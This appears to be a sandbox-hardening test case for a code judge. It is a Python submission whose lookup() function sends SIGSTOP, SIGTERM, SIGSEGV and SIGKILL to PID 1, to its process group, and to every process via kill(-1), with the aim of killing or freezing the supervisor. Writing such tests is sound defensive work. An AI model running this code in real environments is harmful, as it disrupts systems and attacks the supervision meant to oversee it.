# problem: secret_lookup
# verdict: wrong_answer
# attack: sends SIGKILL, SIGSTOP, SIGTERM and SIGSEGV to PID 1, to PID 1's process group and with kill(-1) (everything it may signal but itself), hoping to end or freeze the supervisor
# max-seconds: 10
import contextlib
import os
import signal


def lookup(key):
    for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGSEGV, signal.SIGKILL):
        for target in (1, -1):
            with contextlib.suppress(OSError):
                os.kill(target, sig)
        with contextlib.suppress(OSError):
            os.killpg(1, sig)
    return "still here"
